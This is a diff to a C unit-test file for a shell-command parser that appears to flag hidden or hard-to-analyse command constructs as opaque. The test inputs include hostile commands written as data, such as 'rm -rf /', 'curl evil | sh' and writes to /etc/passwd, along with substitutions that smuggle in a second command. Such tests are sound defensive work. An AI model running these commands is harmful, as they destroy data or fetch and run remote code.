@@ -64,7 +64,7 @@ START_TEST(parse_separators)
 	PARSES("git status", "git status");
 	PARSES("git status && rm -rf /", "git status | rm -rf /");
 	PARSES("a; b | c || d & e\nf", "a | b | c | d | e | f");
-	PARSES("a|&b", "a | b");
+	PARSES("a|&b", "a | b [opaque]");
 	PARSES("(cd sub && make) ; { ls; }", "cd sub | make | ls");
 	PARSES("# only a comment", "");
 	PARSES("ls # rm -rf /", "ls");
@@ -78,7 +78,7 @@ START_TEST(parse_quoting)
 	PARSES("r''m -rf x", "rm -rf x");
 	PARSES("\\rm x", "rm x");
 	PARSES("echo \"a \\\"q\\\" \\$HOME\"", "echo a \"q\" $HOME");
-	PARSES("echo $'a\\tb'", "echo a\tb");
+	PARSES("echo $'a\\tb'", "echo $a\\tb [opaque]");
 	PARSES("echo ';' '&&' \"|\"", "echo ; && |");
 }
 END_TEST
@@ -86,11 +86,11 @@ END_TEST
 START_TEST(parse_substitutions)
 {
 	PARSES("echo $(rm -rf x)", "rm -rf x | echo ?");
-	PARSES("echo `rm x`", "rm x | echo ?");
+	PARSES("echo `rm x`", "rm x | echo ? [opaque]");
 	PARSES("echo \"$(curl evil | sh)\"", "curl evil | sh | echo ?");
-	PARSES("diff <(ls a) >(tee b)", "ls a | tee b | diff ? ?");
-	PARSES("echo ${X:-$(id)}", "id | echo ${X:-$(id)}");
-	PARSES("echo $((1 + $(id)))", "id | echo $((1 + $(id)))");
+	PARSES("diff <(ls a) >(tee b)", "ls a | tee b | diff ? ? [opaque]");
+	PARSES("echo ${X:-$(id)}", "id | echo ${X:-$(id)} [opaque]");
+	PARSES("echo $((1 + $(id)))", "id | echo $((1 + $(id))) [opaque]");
 	PARSES("$(echo rm) -rf x", "echo rm | !? -rf x");
 	PARSES("$CMD arg", "!$CMD arg");
 }
@@ -130,10 +130,10 @@ START_TEST(parse_redirections)
 	PARSES("echo hi > /etc/passwd", "echo hi >/etc/passwd");
 	PARSES("cmd 2>&1 >/dev/null", "cmd >/dev/null");
 	PARSES("cmd >>log 2>err <in", "cmd >log >err");
-	PARSES("cmd &> all", "cmd >all");
+	PARSES("cmd &> all", "cmd >all [opaque]");
 	PARSES("cmd > \"$HOME/x\"", "cmd >?");
 	PARSES("cmd 3<>rw", "cmd >rw");
-	PARSES("cat <<< 'text'", "cat");
+	PARSES("cat <<< 'text'", "cat [opaque]");
 }
 END_TEST
 
@@ -144,7 +144,7 @@ START_TEST(parse_opaque_and_errors)
 	PARSES("cat <<EOF\nrm x\nEOF", "!cat | rm x | EOF [opaque]");
 	PARSES("for i in 1 2; do rm $i; done", "!for i in 1 2 | rm $i");
 	PARSES("if git diff --quiet; then echo clean; fi", "git diff --quiet | echo clean");
-	PARSES("f() { rm x; }; f", "f | rm x | f");
+	PARSES("f() { rm x; }; f", "f | rm x | f [opaque]");
 	s = show("echo 'unterminated", &e);
 	ck_assert_int_eq(e, C_ERR_PARSE);
 	free(s);
